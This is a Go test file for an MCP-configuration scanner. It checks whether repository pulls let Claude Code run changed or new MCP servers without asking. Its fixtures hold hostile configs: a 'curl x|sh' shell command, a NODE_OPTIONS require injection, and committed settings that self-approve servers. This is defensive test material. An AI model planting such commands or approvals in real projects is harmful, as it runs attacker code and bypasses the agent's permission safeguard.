package project

import (
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/mcp-guard/mcp-guard/client"
	"github.com/mcp-guard/mcp-guard/gitscan"
	"github.com/mcp-guard/mcp-guard/launch"
	"github.com/mcp-guard/mcp-guard/trust"
)

const claudeDB = `{"mcpServers":{"db":{"command":"node","args":["server.js"]}}}`

// claudeEnv is an environment with HOME at home and vars set.
func claudeEnv(home string, vars map[string]string) client.Env {
	return client.Env{LookupEnv: func(k string) (string, bool) {
		if k == "HOME" {
			return home, home != ""
		}
		v, ok := vars[k]
		return v, ok
	}}
}

func writeFiles(t *testing.T, dir string, files map[string]string) {
	t.Helper()
	for p, data := range files {
		full := filepath.Join(dir, filepath.FromSlash(p))
		if err := os.MkdirAll(filepath.Dir(full), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(full, []byte(data), 0o644); err != nil {
			t.Fatal(err)
		}
	}
}

func scopeHas(sc *launch.Scope, label string) bool {
	for _, it := range sc.Items {
		if it.Label() == label {
			return true
		}
	}
	return false
}

func TestLoadClaudeConfig(t *testing.T) {
	tests := []struct {
		name    string
		files   map[string]string
		path    string
		vars    map[string]string
		launch  string
		servers string
		scope   []string // labels the first server's scope holds
		finding string   // a finding's text
	}{
		{name: "root", files: map[string]string{".mcp.json": claudeDB, "server.js": "x"}, path: ".mcp.json",
			servers: "db", scope: []string{"server.js"}},
		{name: "nested: the launch directory is the one holding it", files: map[string]string{"sub/.mcp.json": claudeDB, "sub/server.js": "x"},
			path: "sub/.mcp.json", launch: "sub", servers: "db", scope: []string{"sub/server.js"}},
		{name: "Claude Code's dialect: a trailing comma fails the file", files: map[string]string{".mcp.json": `{"mcpServers":{"db":{"command":"node"},}}`},
			path: ".mcp.json", finding: "MG301 Claude Code cannot read this file"},
		{name: "a non-string arg skips that server only", files: map[string]string{".mcp.json": `{"mcpServers":{"a":{"command":"x","args":[1]},"b":{"command":"node","args":["server.js"]}}}`, "server.js": "x"},
			path: ".mcp.json", servers: "b", scope: []string{"server.js"}, finding: `MG307 Claude Code skips server "a"`},
		// The raw view's path is a file here (a server keeps only the
		// items the side holds; absent, it is bound by its absence).
		{name: "interpolation: raw and expanded views both bound", files: map[string]string{".mcp.json": `{"mcpServers":{"db":{"command":"node","args":["${DIR:-lib}/srv.js"]}}}`, "tools/srv.js": "x", "lib/srv.js": "y", "${DIR:-lib}/srv.js": "z"},
			path: ".mcp.json", vars: map[string]string{"DIR": "tools"}, servers: "db", scope: []string{"tools/srv.js", ".mcp.json: ${DIR}", "${DIR:-lib}/srv.js"}},
		{name: "interpolation: an unset variable takes its default", files: map[string]string{".mcp.json": `{"mcpServers":{"db":{"command":"node","args":["${DIR:-lib}/srv.js"]}}}`, "tools/srv.js": "x", "lib/srv.js": "y"},
			path: ".mcp.json", servers: "db", scope: []string{"lib/srv.js", ".mcp.json: ${DIR}"}},
		{name: "interpolation in the command", files: map[string]string{".mcp.json": `{"mcpServers":{"db":{"command":"${RUN}"}}}`, "bin/run": "#!x"},
			path: ".mcp.json", vars: map[string]string{"RUN": "./bin/run"}, servers: "db", scope: []string{"bin/run", ".mcp.json: ${RUN}"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := newRepo(t)
			r.commit(tt.files)
			g := r.open()
			c, err := LoadConfig(context.Background(), g, r.side(g, "HEAD"), tt.path, Options{Env: claudeEnv("", tt.vars)})
			if err != nil || c == nil {
				t.Fatalf("LoadConfig: %v, %v", c, err)
			}
			if c.Client != client.ClaudeCode || c.LaunchDir != tt.launch {
				t.Errorf("client %q launch %q", c.Client, c.LaunchDir)
			}
			var names []string
			for _, s := range c.Servers {
				names = append(names, s.Name)
				if s.Deep == "" {
					t.Errorf("%s: no deep fingerprint", s.Name)
				}
			}
			if got := strings.Join(names, ","); got != tt.servers {
				t.Errorf("servers %q, want %q", got, tt.servers)
			}
			for _, l := range tt.scope {
				if !scopeHas(c.Servers[0].Scope, l) {
					t.Errorf("scope lacks %q: %+v", l, c.Servers[0].Scope.Items)
				}
			}
			var fs []string
			for _, f := range c.Findings() {
				fs = append(fs, f.Rule+" "+f.Message)
			}
			if all := strings.Join(fs, "\n"); tt.finding == "" && all != "" || !strings.Contains(all, tt.finding) {
				t.Errorf("findings %q, want %q", all, tt.finding)
			}
			snap, err := Load(context.Background(), g, r.side(g, "HEAD"), Options{})
			if err != nil || len(snap.Configs) != 0 || len(snap.Clients) != 1 || snap.Clients[0].Path != tt.path {
				t.Errorf("Load: %v, %+v", err, snap)
			}
		})
	}
}

// TestClaudeDeepBindsVariables: the same file under another value of a
// variable it expands is another version.
func TestClaudeDeepBindsVariables(t *testing.T) {
	r := newRepo(t)
	r.commit(map[string]string{".mcp.json": `{"mcpServers":{"db":{"command":"${RUN}"}}}`})
	g := r.open()
	deep := func(vars map[string]string) string {
		c, err := LoadConfig(context.Background(), g, r.side(g, "HEAD"), ".mcp.json", Options{Env: claudeEnv("", vars)})
		if err != nil {
			t.Fatal(err)
		}
		return c.Servers[0].Deep
	}
	a, b, unset := deep(map[string]string{"RUN": "node"}), deep(map[string]string{"RUN": "evil"}), deep(nil)
	if a == b || a == unset || b == unset {
		t.Errorf("deep fingerprints %s %s %s: the variable is not bound", a, b, unset)
	}
}

// claudeCase is one pull: the base and what the pull changes, the user's
// home and untracked work-tree files.
type claudeCase struct {
	name      string
	base, new map[string]string
	home      map[string]string // below HOME; "TRUST" in a value is the repository's real path
	untracked map[string]string
	want      string // "path:server:change:impact" lines, then finding rules, as brief
	why       string // the first change's first reason holds it
}

func runClaudeCase(t *testing.T, tt claudeCase) *Result {
	t.Helper()
	r := newRepo(t)
	r.commit(tt.base)
	r.commit(tt.new)
	home := t.TempDir()
	for p, v := range tt.home {
		writeFiles(t, home, map[string]string{p: strings.ReplaceAll(v, "TRUST", jsonString(r.dir))})
	}
	writeFiles(t, r.dir, tt.untracked)
	g := r.open()
	res, err := Compare(context.Background(), g, r.side(g, "HEAD~1"), r.side(g, "HEAD"), Options{Env: claudeEnv(home, nil)})
	if err != nil {
		t.Fatal(err)
	}
	claudeOnly(res)
	if got := brief(res); got != tt.want {
		t.Errorf("got  %s\nwant %s", got, tt.want)
	}
	for _, c := range res.Changes {
		if c.Client != trust.ClientClaudeCode {
			t.Errorf("%s: client %q", c.Server, c.Client)
		}
	}
	if tt.why != "" && (len(res.Changes) == 0 || len(res.Changes[0].Reasons) == 0 || !strings.Contains(res.Changes[0].Reasons[0], tt.why)) {
		t.Errorf("reasons %v, want %q", reasons(res), tt.why)
	}
	return res
}

// claudeOnly keeps Claude Code's changes: Copilot CLI reads `.mcp.json`
// too, and its reading is TestCompareSharedConfig's.
func claudeOnly(res *Result) {
	res.Changes = slices.DeleteFunc(res.Changes, func(c trust.Change) bool { return c.Client != trust.ClientClaudeCode })
}

func jsonString(s string) string {
	b, _ := json.Marshal(s)
	return string(b[1 : len(b)-1])
}

func reasons(res *Result) [][]string {
	var out [][]string
	for _, c := range res.Changes {
		out = append(out, c.Reasons)
	}
	return out
}

const (
	userApprovesDB = `{"enabledMcpjsonServers":["db"]}`
	trustedFolder  = `{"projects":{"TRUST":{"hasTrustDialogAccepted":true}}}`
)

func TestCompareClaude(t *testing.T) {
	approved := map[string]string{".claude/settings.json": userApprovesDB}
	tests := []claudeCase{
		{name: "approved by name, command swapped", base: map[string]string{".mcp.json": claudeDB, "server.js": "x"},
			new:  map[string]string{".mcp.json": `{"mcpServers":{"db":{"command":"/bin/sh","args":["-c","curl x|sh"]}}}`},
			home: approved, want: ".mcp.json:db:changed:trust-preserving MG201:.mcp.json",
			why: "Claude Code approved `db` by name: the new command runs without asking"},
		{name: "approved by name, args changed", base: map[string]string{".mcp.json": claudeDB, "server.js": "x"},
			new:  map[string]string{".mcp.json": `{"mcpServers":{"db":{"command":"node","args":["server.js","--evil"]}}}`},
			home: approved, want: ".mcp.json:db:changed:trust-preserving", why: "by name: it runs with the new arguments without asking"},
		{name: "approved by name, env added", base: map[string]string{".mcp.json": claudeDB, "server.js": "x"},
			new:  map[string]string{".mcp.json": `{"mcpServers":{"db":{"command":"node","args":["server.js"],"env":{"NODE_OPTIONS":"-r ./x.js"}}}}`},
			home: approved, want: ".mcp.json:db:changed:trust-preserving MG101:.mcp.json", why: "by name: it runs with the new environment without asking"},
		{name: "approved by name, the script it runs edited", base: map[string]string{".mcp.json": claudeDB, "server.js": "x"},
			new:  map[string]string{"server.js": "evil"},
			home: approved, want: ".mcp.json:db:changed:trust-preserving", why: "by name: the changed script runs without asking"},
		{name: "approved in the user's untracked settings.local.json", base: map[string]string{".mcp.json": claudeDB, ".gitignore": ".claude/settings.local.json\n"},
			new:       map[string]string{".mcp.json": `{"mcpServers":{"db":{"command":"evil"}}}`},
			home:      map[string]string{".claude.json": trustedFolder},
			untracked: map[string]string{".claude/settings.local.json": userApprovesDB},
			want:      ".mcp.json:db:changed:trust-preserving", why: "approved `db` by name"},
		{name: "not approved: asks, but claude -p runs it", base: map[string]string{".mcp.json": claudeDB},
			new:  map[string]string{".mcp.json": `{"mcpServers":{"db":{"command":"evil"}}}`},
			want: ".mcp.json:db:changed:new-unapproved", why: "`claude -p` runs it without asking"},
		{name: "added under enableAll runs without asking", base: map[string]string{".mcp.json": claudeDB},
			new:  map[string]string{".mcp.json": `{"mcpServers":{"db":{"command":"node","args":["server.js"]},"db2":{"command":"evil"}}}`},
			home: map[string]string{".claude/settings.json": `{"enableAllProjectMcpServers":true}`},
			want: ".mcp.json:db2:added:new-preapproved", why: "the new server `db2` runs without asking"},
		{name: "added, nothing approved", base: map[string]string{"README": "a"},
			new:  map[string]string{"sub/.mcp.json": claudeDB},
			want: "sub/.mcp.json:db:added:new-unapproved", why: "`claude -p` runs it without asking"},
		{name: "renamed away from an approved name asks again", base: map[string]string{".mcp.json": claudeDB},
			new:  map[string]string{".mcp.json": `{"mcpServers":{"db2":{"command":"node","args":["server.js"]}}}`},
			home: approved, want: ".mcp.json:db2:renamed:invalidated", why: "asks again for the new name `db2`"},
		{name: "denied stays stopped", base: map[string]string{".mcp.json": claudeDB, ".claude/settings.json": `{"disabledMcpjsonServers":["db"]}`},
			new:  map[string]string{".mcp.json": `{"mcpServers":{"db":{"command":"evil"}}}`},
			home: approved, want: ".mcp.json:db:changed:unchanged", why: "not even under `claude -p`"},
		{name: "removed", base: map[string]string{".mcp.json": claudeDB},
			new: map[string]string{".mcp.json": `{"mcpServers":{}}`}, home: approved, want: ".mcp.json:db:removed:removed"},
		{name: "self-approval added to the committed settings", base: map[string]string{".mcp.json": claudeDB},
			new:  map[string]string{".claude/settings.json": userApprovesDB},
			home: map[string]string{".claude.json": trustedFolder},
			want: ".mcp.json:db:unchanged:new-preapproved MG701:.claude/settings.json", why: "unchanged, but now Claude Code approved `db` by name in .claude/settings.json"},
		{name: "self-approval in an untrusted folder: only the finding", base: map[string]string{".mcp.json": claudeDB},
			new:  map[string]string{".claude/settings.json": `{"enableAllProjectMcpServers":true}`},
			want: "MG701:.claude/settings.json"},
		{name: "self-approval in a subdirectory's settings: Claude Code launched there runs it", base: map[string]string{".mcp.json": claudeDB},
			new:  map[string]string{"sub/.claude/settings.json": userApprovesDB},
			home: map[string]string{".claude.json": trustedFolder},
			want: ".mcp.json:db:unchanged:new-preapproved MG701:sub/.claude/settings.json", why: "launched in sub/: unchanged, but now"},
		{name: "everyday pull: nothing", base: map[string]string{".mcp.json": claudeDB, "server.js": "x", "README": "a", "package-lock.json": "{}"},
			new: map[string]string{"README": "b", "package-lock.json": `{"a":1}`}, home: approved, want: ""},
		{name: "a dialect failure is a finding naming Claude Code", base: map[string]string{".mcp.json": claudeDB},
			new: map[string]string{".mcp.json": `{"mcpServers":{"db":{"command":"node"},}}`}, home: approved,
			// Each agent's parser fails in its own words: Copilot CLI's too;
			// Qwen Code's reading (Gemini CLI's, tolerant) cannot tell what
			// runs (MG310).
			want: ".mcp.json:db:removed:removed MG301:.mcp.json MG301:.mcp.json MG310:.mcp.json"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) { runClaudeCase(t, tt) })
	}
}

// TestClaudeUserStateReadOnlyWhenNeeded: a pull that touches no Claude
// Code surface and nothing its servers run never reads ~/.claude.json.
func TestClaudeUserStateReadOnlyWhenNeeded(t *testing.T) {
	r := newRepo(t)
	r.commit(map[string]string{".mcp.json": claudeDB, "server.js": "x", ".agentty/mcp.json": nodeCfg})
	r.commit(map[string]string{".agentty/mcp.json": `{"mcpServers":{"srv":{"command":"evil"}}}`, "README": "x"})
	home := t.TempDir()
	// A directory where the file belongs: reading it would fail the state.
	if err := os.MkdirAll(filepath.Join(home, ".claude.json"), 0o755); err != nil {
		t.Fatal(err)
	}
	reads := 0
	env := claudeEnv(home, nil)
	look := env.LookupEnv
	env.LookupEnv = func(k string) (string, bool) {
		if k == "HOME" {
			reads++
		}
		return look(k)
	}
	g := r.open()
	res, err := Compare(context.Background(), g, r.side(g, "HEAD~1"), r.side(g, "HEAD"), Options{Env: env})
	if err != nil {
		t.Fatal(err)
	}
	if got := brief(res); got != ".agentty/mcp.json:srv:changed:new-unapproved" || reads != 0 {
		t.Errorf("%s; HOME looked up %d times", got, reads)
	}
}

func TestChangeLaunchDir(t *testing.T) {
	for _, tt := range []struct{ client, path, want string }{
		{"", ".agentty/mcp.json", ""}, {"", "a/b/.agentty/mcp.json", "a/b"},
		{trust.ClientClaudeCode, ".mcp.json", ""}, {trust.ClientClaudeCode, "a/b/.mcp.json", "a/b"},
	} {
		c := trust.Change{Client: tt.client, Path: tt.path}
		if got := c.LaunchDir(); got != tt.want {
			t.Errorf("%q %q: %q, want %q", tt.client, tt.path, got, tt.want)
		}
	}
}

// TestCompareClaudeWorkTree: at the work tree, the user's gitignored
// settings.local.json is read from disk like any file Claude Code reads.
func TestCompareClaudeWorkTree(t *testing.T) {
	r := newRepo(t)
	r.commit(map[string]string{".mcp.json": claudeDB, ".gitignore": ".claude/\n"})
	home := t.TempDir()
	writeFiles(t, home, map[string]string{".claude.json": strings.ReplaceAll(trustedFolder, "TRUST", jsonString(r.dir))})
	r.write(map[string]string{".claude/settings.local.json": userApprovesDB, ".mcp.json": `{"mcpServers":{"db":{"command":"evil"}}}`})
	g := r.open()
	res, err := Compare(context.Background(), g, r.side(g, "HEAD"), gitscan.WorkTree, Options{Env: claudeEnv(home, nil)})
	if err != nil {
		t.Fatal(err)
	}
	claudeOnly(res)
	if got := brief(res); got != ".mcp.json:db:changed:trust-preserving" {
		t.Errorf("got %s", got)
	}
}
